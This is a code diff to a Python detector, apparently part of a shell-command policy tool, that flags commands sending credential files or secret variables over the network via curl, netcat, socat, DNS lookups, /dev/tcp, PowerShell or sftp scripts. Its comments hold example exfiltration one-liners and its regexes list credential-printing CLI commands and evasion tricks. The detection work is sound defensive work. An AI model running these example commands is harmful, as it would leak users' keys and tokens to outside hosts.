@@ -15,22 +15,52 @@ from sluice.policies._shell import Command, basename
 from sluice.policies._targets import is_credential
 from sluice.policies._wrappers import operands, unwrap
 
-__all__ = ["Pipeline"]
+__all__ = ["TRANSFERS", "Pipeline", "powershell_sends", "socket_redirects", "uploads_credential"]
 
 # Programs that send their input, or files named to them, over the network.
 _RAW = frozenset(
     {"nc", "ncat", "netcat", "socat", "telnet", "openssl", "ssh", "mail", "mailx", "sendmail"}
     | {"mutt", "http", "https", "xh", "cryptcat", "sftp", "ftp", "curl", "wget", "scp"}
+    | {"Invoke-WebRequest", "Invoke-RestMethod", "iwr", "irm"}
 )
 _COPIES = frozenset({"scp", "rsync", "sftp"})
 _CLOUD_COPY = frozenset({"aws", "gsutil", "rclone", "az", "gh", "s3cmd", "mc", "gcloud"})
-_SENDERS = _RAW | _COPIES | _CLOUD_COPY
+# A name looked up carries what it is built from to the name servers (`dig $(…).evil.com`).
+_RESOLVERS = frozenset(
+    {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "getent", "resolvectl"}
+)
+_SENDERS = _RAW | _COPIES | _CLOUD_COPY | _RESOLVERS
+# Credentials a CLI prints: a token, exported keys, a raw kubeconfig, a secret's value.
+_CLI_PRINTERS = frozenset(
+    {"gh", "aws", "gcloud", "az", "kubectl", "oc", "git", "security", "vault", "op", "pass"}
+    | {"heroku", "doctl", "bw"}
+)
+_PRINTS_CREDENTIAL = re.compile(
+    r"gh auth (?:token|status\b.*(?:-t|--show-token)\b)"
+    r"|aws\b.* (?:configure export-credentials|configure get \S*(?:secret|token|key)"
+    r"|ecr get-login-password|sts get-session-token|codeartifact get-authorization-token"
+    r"|secretsmanager get-secret-value|ssm get-parameters?\b.*--with-decryption)"
+    r"|gcloud\b.* (?:auth (?:application-default )?print-(?:access|identity)-token"
+    r"|secrets versions access)"
+    r"|az\b.* (?:account get-access-token|keyvault secret (?:show|download))"
+    r"|(?:kubectl|oc)\b.* (?:config view\b.*--raw|get secrets?\b.* (?:-o|--output)\b)"
+    r"|oc whoami (?:-t|--show-token)|git credential fill|security find-\w+-password\b.* -[wg]\b"
+    r"|vault (?:kv get|read|print token)|op (?:read|item get)|pass show|heroku auth:token"
+    r"|doctl auth token|bw get (?:password|item)"
+)
+_HEADER_OPTIONS = ("-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user")
 _SSH_VALUES = frozenset({"-i", "-P", "-p", "-o", "-F", "-e", "-c", "-l", "-S", "-J", "--rsh"})
+# Options whose value names what is NOT sent or packed (`rsync --exclude .env`, `tar -X F`,
+# `zip -x .env`), or a filter rule (`rsync -f '- .env'`).
+_EXCLUDES = frozenset(
+    {"--exclude", "--exclude-from", "--filter", "-f", "-X", "--include-from", "-x"}
+)
 _CURL_DATA = ("-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json")
 _CURL_FORM = ("-F", "--form")
 _CURL_UPLOAD = ("-T", "--upload-file")
 _SECRET_VARIABLE = re.compile(
-    r"\$?\{?([A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY)[A-Z0-9_]*)"
+    r"\$?\{?([A-Z0-9_]*"
+    r"(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIAL)[A-Z0-9_]*)"
 )
 # Raw sockets: nothing legitimate pipes a secret variable into them.
 _SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "cryptcat"})
@@ -48,34 +78,163 @@ class Pipeline:
     def __init__(self) -> None:
         self.flowing: str | None = None  # the secret in the current pipe, if any
         self.stashed: set[str] = set()  # files a secret was written to (env > /tmp/e)
+        self.headers: list[str] = []  # the headers senders were given (a token's place)
+        # A group's output is all its commands' (`(cat ~/.netrc; sleep 1) | telnet h 23`):
+        # the secret read inside the group open, if any.
+        self.group: str | None = None
+        self.grouping = False
+        # Loop variables that carry a credential's text, encoded or not: `for l in $(xxd -p
+        # ~/.npmrc)`, `base64 ~/.aws/credentials | while read l`.
+        self.carriers: dict[str, str] = {}
+        self.listed: str | None = None  # the secret a `for` loop's substitution reads
+        # The secret a substitution gives echo or printf to print (`echo "$(cat .env)"`).
+        self.printed: str | None = None
+
+    def close_group(self) -> None:
+        """The group (``( … )``, ``{ …; }``) ends: what flows on is what any of it read."""
+        if self.grouping:
+            self.flowing = self.group or self.flowing
+        self.grouping, self.group = False, None
 
     def add(self, command: Command, producer: Command | None) -> str | None:
         """Follow ``command`` (``producer``: the command piped into it); say what it sends to
         the network, if it sends a credential."""
+        if command.words[:1] == ("}",):
+            self.close_group()
+            return None
+        if command.after == "(" or command.words[:1] == ("{",):
+            self.grouping, self.group = True, None
         read = _secret_read_by(command)
+        if read is None and self.printed and _prints_substitution(command.words):
+            read = self.printed  # echo "{\"text\": \"$(cat .env)\"}" | curl -d @- …
+        if self.grouping:
+            self.group = self.group or read
         stdin = self.flowing if producer is not None else None
-        head = unwrap(command.words)[0][:1]
-        if stdin and stdin.startswith("$") and (not head or basename(head[0]) not in _SOCKETS):
+        if stdin and _variable(stdin) and not _sends_stdin(unwrap(command.words)[0]):
             stdin = None  # a token piped into `gh auth login`, `docker login`, `ssh sudo -S`
         stdin = stdin or next((f for f in command.inputs if is_credential(f)), None)
         self.flowing = read or stdin
+        if command.feeds == "for" and self.flowing:
+            self.listed = self.flowing
+        if sent := self._carried(command, stdin):
+            return sent
         if self.flowing:
             self.stashed.update(command.redirects)
         self.stashed.update(_copies_of_secrets(unwrap(command.words)[0]))
         words, _ = unwrap(command.words)
-        if command.feeds in _SENDERS and read is not None and not read.startswith("$"):
-            return f"Sends {read} to the network ({command.feeds})"
+        if words and basename(words[0]) in ("curl", "wget", "http", "https", "xh"):
+            self._keep_headers(words)
+        if command.feeds in _SENDERS and read is not None and not _variable(read):
+            # A token a CLI prints, in a header: `curl -H "Authorization: Bearer $(gcloud auth
+            # print-access-token)"` calls the API it is for.
+            printer = f"$({words[0]}" if words else ""
+            if not (command.quoted_by and printed_credential(words) and self._in_header(printer)):
+                return f"Sends {read} to the network ({command.feeds})"
+        sockets = any(r.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects)
+        if sockets and (sent := read or stdin):  # cat ~/.aws/credentials > /dev/tcp/h/80
+            return f"Sends {sent} to the network (/dev/tcp)"
         if not words:
             return None
         sent = _sent_by(words, stdin, self._holds_secret)
-        if sent is None and any(
-            r.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects
-        ):
-            sent = read or stdin
         return f"Sends {sent} to the network ({basename(words[0])})" if sent else None
+
+    def bind_reads(self, commands: Sequence[Command]) -> None:
+        """Before a line is followed: the variables of a ``while read`` loop whose input
+        comes after ``done`` from a credential (``done < <(xxd -p ~/.netrc)``)."""
+        variables: list[str] = []
+        secret: str | None = None
+        for command in commands:
+            if command.words[:2] == ("while", "read"):
+                variables += operands(command.words[2:], frozenset({"-d", "-p", "-u", "-n"}))
+            elif command.after == "<(" and command.feeds == "done":
+                secret = secret or _secret_read_by(command)
+            if command.after in ("$(", "`") and command.feeds in _PRINTERS:
+                self.printed = self.printed or _secret_read_by(command)
+        if secret is not None:
+            self.carriers.update(dict.fromkeys(variables[:_HEADERS], secret))
+
+    def _carried(self, command: Command, stdin: str | None) -> str | None:
+        """Bind the variables of a loop over a credential's text; say what a sender given
+        one of them (``dig +short $l.x.example``) sends."""
+        given = command.words
+        if given[:1] == ("for",) and len(given) > 2 and self.listed:
+            self.carriers[given[1]] = self.listed
+            self.listed = None
+        elif given[:2] == ("while", "read") and stdin and len(self.carriers) < _HEADERS:
+            for variable in operands(given[2:], frozenset({"-d", "-p", "-u", "-n", "-t"})):
+                self.carriers[variable] = stdin
+        if not self.carriers:
+            return None
+        words = unwrap(given[1:] if given[:1] == ("do",) else given)[0]
+        if not words or basename(words[0]) not in _SENDERS:
+            return None
+        for variable, secret in self.carriers.items():
+            if any(f"${variable}" in w or f"${{{variable}}}" in w for w in words[1:]):
+                return f"Sends {secret} to the network ({basename(words[0])}, a piece at a time)"
+        return None
+
+    def _keep_headers(self, words: Sequence[str]) -> None:
+        for option, value in zip(words, [*words[1:], ""], strict=True):
+            if len(self.headers) >= _HEADERS:
+                return
+            clustered = option[:1] == "-" and option[1:2] not in ("-", "") and option[-1] in "Hu"
+            if option in _HEADER_OPTIONS or clustered:  # -H, -sH
+                self.headers.append(value)
+            elif option.startswith(("--header=", "--user=")):
+                self.headers.append(option.partition("=")[2])
+
+    def _in_header(self, printer: str) -> bool:
+        return any(printer in header for header in self.headers)
 
     def _holds_secret(self, path: str) -> bool:
         return path in self.stashed or is_credential(path)
+
+
+_HEADERS = 16
+_SOCAT_FILES = frozenset({"FILE", "OPEN", "GOPEN", "CREATE"})
+
+
+def _variable(secret: str) -> bool:
+    """Whether ``secret`` is a variable's value (``$AWS_SECRET_ACCESS_KEY``), not a file
+    under a variable's folder (``$env:USERPROFILE/.aws/credentials``)."""
+    return secret.startswith("$") and "/" not in secret
+
+
+_PRINTERS = frozenset({"echo", "printf"})
+
+
+def _prints_substitution(words: Sequence[str]) -> bool:
+    """Whether ``words`` print what a substitution gave them (``echo "$(cat .env)"``)."""
+    return bool(words) and words[0] in _PRINTERS and any("$(" in w or "`" in w for w in words)
+
+
+def _sends_stdin(words: Sequence[str]) -> bool:
+    """Whether ``words`` send what is piped in as they read it: a raw socket (``nc h 9``)
+    or curl's body or upload read from stdin (``-d @-``, ``--data-binary @-``, ``-T -``).
+    A secret variable piped into anything else is a login (``docker login
+    --password-stdin``) or a header (``curl -H @-``)."""
+    if not words:
+        return False
+    name = basename(words[0])
+    return name in _SOCKETS or (name == "curl" and "-" in _curl_files(words[1:]))
+
+
+def printed_credential(words: Sequence[str]) -> str | None:
+    """The credential a CLI prints (``gh auth token``, ``aws configure export-credentials``,
+    ``gcloud auth print-access-token``, ``kubectl config view --raw``), named, or None."""
+    if not words:
+        return None
+    name = basename(words[0])
+    if name not in _CLI_PRINTERS and not name.startswith("docker-credential-"):
+        return None
+    if name.startswith("docker-credential-") and "get" in words[1:]:
+        return f"the registry credential {name} prints"
+    line = " ".join([name, *words[1:_CLI_WORDS]])
+    found = _PRINTS_CREDENTIAL.match(line)
+    return f"the credential `{' '.join(words[:3])}` prints" if found else None
+
+
+_CLI_WORDS = 10  # a CLI's subcommand and options are in its first words
 
 
 def _copies_of_secrets(words: Sequence[str]) -> list[str]:
@@ -90,8 +249,10 @@ def _copies_of_secrets(words: Sequence[str]) -> list[str]:
             cluster = (arg.startswith("-") and not arg.startswith("--")) or i == 0
             if arg == "--file" or (cluster and "f" in arg):
                 out.append(args[i + 1])
-        sources = [a for a in operands(args) if a not in out and a != args[0]]
+        sources = [a for a in operands(args, _EXCLUDES - {"-f"}) if a not in out and a != args[0]]
         return out if any(is_credential(a.rstrip("/")) for a in sources) else []
+    if name == "zip":  # zip -r a.zip . -x .env '*.pem': what follows -x is left out
+        args = _without_excluded(args)
     found = operands(args, _SSH_VALUES | {"-o", "--output", "-out", "-t"})
     if name in ("zip", "7z", "rar", "jar") and found:
         archive = found[1] if name == "7z" and len(found) > 1 else found[0]
@@ -104,6 +265,21 @@ def _copies_of_secrets(words: Sequence[str]) -> list[str]:
             b for a, b in zip(args, [*args[1:], ""], strict=True) if a in ("-o", "--output", "-out")
         ]
     return []
+
+
+def _without_excluded(args: list[str]) -> list[str]:
+    """zip's arguments without the patterns its ``-x``/``--exclude`` list leaves out."""
+    kept: list[str] = []
+    excluding = False
+    for arg in args:
+        if arg in ("-x", "--exclude", "-x@"):
+            excluding = True
+        elif arg.startswith("-"):
+            excluding = False
+            kept.append(arg)
+        elif not excluding:
+            kept.append(arg)
+    return kept
 
 
 def _secret_read_by(command: Command) -> str | None:
@@ -125,6 +301,8 @@ def _secret_read_by(command: Command) -> str | None:
         if named:
             return "$" + named
     words, _ = unwrap(command.words)
+    if printed := printed_credential(words):
+        return printed
     if not words or basename(words[0]) in _NOT_READERS or basename(words[0]) in _SENDERS:
         return next((f for f in command.inputs if is_credential(f)), None)
     found = [w for w in operands(words[1:]) if is_credential(w)]
@@ -154,10 +332,16 @@ def _sent_by(
                     return arg.partition("=")[2]
         return stdin
     if name in _COPIES:
-        found = operands(args, _SSH_VALUES)
+        found = operands(args, _SSH_VALUES | (_EXCLUDES if name == "rsync" else frozenset()))
         if len(found) >= 2 and _remote(found[-1]):
             return next((f for f in found[:-1] if is_credential(f.rstrip("/"))), None)
         return stdin if name == "sftp" else None
+    if name == "socat":  # socat -u FILE:$HOME/.aws/credentials TCP:h:9
+        for arg in args:
+            kind, colon, rest = arg.partition(":")
+            path = rest.partition(",")[0]
+            if colon and kind.upper() in _SOCAT_FILES and is_credential(path):
+                return path
     if name in ("http", "https", "xh"):
         for arg in args:
             path = arg.rpartition("@")[2] if "@" in arg else ""
@@ -167,6 +351,10 @@ def _sent_by(
         attached = args[args.index("-a") + 1 :]
         if attachment := next((a for a in attached if is_credential(a)), None):
             return attachment
+    if name in _RESOLVERS:  # dig $AWS_SECRET_ACCESS_KEY.x.example.com
+        return next(
+            (m.group(1) for w in args if (m := _SECRET_VARIABLE.search(w)) and "$" in w), None
+        )
     if name in _CLOUD_COPY:
         found = operands(args)
         remote = any("://" in f or _remote(f) for f in found) or found[:2] == ["gist", "create"]
@@ -176,22 +364,124 @@ def _sent_by(
     return stdin if name in _RAW else None
 
 
+# bash's network files, opened on a descriptor (`exec 3<>/dev/tcp/h/80`) for a later `>&3`.
+_OPENED_SOCKET = re.compile(
+    r"\bexec\s+([0-9]+|\{\w+\})\s*(?:<>|>>?|>\|)\s*(/dev/(?:tcp|udp)/[^\s;&|]+)"
+)
+
+
+def socket_redirects(line: str) -> str:
+    """``line`` with each write to a descriptor that ``exec`` opened on bash's ``/dev/tcp``
+    or ``/dev/udp`` (``exec 3<>/dev/tcp/h/80; cat ~/.aws/credentials >&3``) written as a
+    redirect to that network file, which a sender's check then sees."""
+    if "/dev/tcp/" not in line and "/dev/udp/" not in line:
+        return line
+    opened = dict(_OPENED_SOCKET.findall(line))
+    for fd, address in list(opened.items())[:_HEADERS]:  # a line opening 10,000: the first
+        if fd.startswith("{"):  # exec {fd}<>/dev/tcp/h/80; … >&$fd
+            target = r"\$\{?" + re.escape(fd[1:-1]) + r"\}?(?!\w)"
+        else:
+            target = fd + r"(?![0-9])"
+        duplicate = re.compile(r"(?<![0-9<])[0-9]?>&\s*" + target)
+        line = duplicate.sub(" >" + address.replace("\\", "\\\\"), line)
+    return line
+
+
+# PowerShell's HTTP clients, and a statement of theirs (up to `;`, `|` or a line's end).
+_POWERSHELL_SENDER = re.compile(
+    r"(?i)\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b([^;|\n]*)"
+)
+# What they send: a file (`-InFile F`), or a body read from one (`-Body (Get-Content F)`,
+# `-Body ([IO.File]::ReadAllText("F"))`).
+_POWERSHELL_SENT = re.compile(
+    r"(?i)-InFile[:\s]\s*['\"]?([^\s'\")]+)"
+    r"|-Body[:\s]\s*\$?\(\s*(?:Get-Content|gc|cat|type)\s+(?:-(?:Path|LiteralPath)\s+)?"
+    r"['\"]?([^\s'\")]+)"
+    r"|-Body[:\s]\s*\$?\(\s*\[(?:System\.)?IO\.File\]::ReadAll\w+\(\s*['\"]?([^\s'\")]+)"
+)
+
+
+def powershell_sends(line: str) -> str | None:
+    """The credential file a PowerShell HTTP client sends (``Invoke-WebRequest -Method Post
+    -InFile $env:USERPROFILE/.aws/credentials``, ``irm -Body (Get-Content ~/.ssh/id_rsa)``;
+    Windows' backslashes already made slashes), if any."""
+    # `$c = Get-Content F -Raw; Invoke-RestMethod … -Body $c`: the variable holds F.
+    held = {
+        m.group(1).lower(): path
+        for m in _POWERSHELL_READ.finditer(line)
+        if is_credential(path := m.group(2) or m.group(3) or "")
+    }
+    for statement in _POWERSHELL_SENDER.finditer(line):
+        for sent in _POWERSHELL_SENT.finditer(statement.group(1)):
+            path = sent.group(1) or sent.group(2) or sent.group(3) or ""
+            if is_credential(path):
+                return path
+        for variable in _POWERSHELL_BODY.findall(statement.group(1)) if held else ():
+            if variable.lower() in held:
+                return held[variable.lower()]
+    return None
+
+
+_POWERSHELL_READ = re.compile(
+    r"(?i)\$(\w+)\s*=\s*(?:\(\s*)?(?:(?:Get-Content|gc|cat|type)\s+(?:-(?:Path|LiteralPath)\s+)?"
+    r"['\"]?([^\s'\")]+)|\[(?:System\.)?IO\.File\]::ReadAll\w+\(\s*['\"]?([^\s'\")]+))"
+)
+_POWERSHELL_BODY = re.compile(r"(?i)-(?:Body|InFile)[:\s]\s*['\"]?\$(\w+)")
+
+
+TRANSFERS = frozenset({"sftp", "ftp", "lftp", "smbclient", "tftp", "ncftp", "yafc", "pftp"})
+"""Transfer programs that take their commands from a script (a here-string, a here-document,
+``-b``/``-f`` files, stdin, ``-c``), not from their arguments."""
+# A statement of such a script that uploads local files: put, mput, reput, append, send,
+# lftp's reverse mirror; after a newline, `;`, a written `\n` or a `$'…'` quote's `$`.
+_UPLOAD = re.compile(
+    r"(?:^|[\n;]|\\n|\$)\s*(?:(put|reput|append|send)|mput|mirror\s+(?:-R|--reverse))"
+    r"\s+([^\n;\\]+)",
+    re.MULTILINE,
+)
+
+
+def uploads_credential(script: str) -> str | None:
+    """The credential file a transfer program's ``script`` uploads (``put ~/.ssh/id_rsa``),
+    if any: the local file of ``put``, every file of ``mput``."""
+    for match in _UPLOAD.finditer(script):
+        files = [w.strip("'\"") for w in match.group(2).split() if not w.startswith("-")]
+        for file in files[:1] if match.group(1) else files:
+            if is_credential(file.rstrip("/")):
+                return file
+    return None
+
+
 def _curl_files(args: Sequence[str]) -> list[str]:
-    """The files curl sends: ``-d @file``, ``-F name=@file``, ``-T file`` (``-``: stdin)."""
+    """The files curl sends: ``-d @file``, ``-F name=@file``, ``-T file`` (``-``: stdin),
+    also from a cluster of short options (``-sT file``, ``-sSd @file``)."""
     files: list[str] = []
-    for arg, value in zip(args, [*args[1:], ""], strict=True):
+    for option, given in _curl_options(args):
         for options, attached in ((_CURL_DATA, "@"), (_CURL_FORM, "=@"), (_CURL_UPLOAD, "")):
-            for option in options:
-                if arg == option:
-                    given = value
-                elif arg.startswith(option + "=") and option.startswith("--"):
-                    given = arg.partition("=")[2]
-                elif not option.startswith("--") and arg.startswith(option) and len(arg) > 2:
-                    given = arg[2:]
-                else:
-                    continue
+            if option in options:
                 files += _named_file(given, attached)
     return files
+
+
+# curl's short options that take a value; the others are switches a cluster may hold
+# before one that does (`-sSLT file`: -s, -S, -L, then -T's file).
+_CURL_VALUED = frozenset("AbcCdDeEFHKmoPQrtTuUwxXyYz")
+
+
+def _curl_options(args: Sequence[str]) -> list[tuple[str, str]]:
+    """curl's options and their values, long (``--data x``, ``--data=x``) or short, alone
+    (``-d x``), attached (``-dx``) or clustered (``-sSd x``)."""
+    found: list[tuple[str, str]] = []
+    for arg, value in zip(args, [*args[1:], ""], strict=True):
+        if arg.startswith("--"):
+            name, equals, attached = arg.partition("=")
+            found.append((name, attached if equals else value))
+        elif arg.startswith("-") and len(arg) > 1:
+            for at, letter in enumerate(arg[1:], start=1):
+                if letter in _CURL_VALUED:
+                    found.append(("-" + letter, arg[at + 1 :] or value))
+                    break
+    return found
 
 
 def _named_file(value: str, marker: str) -> list[str]:
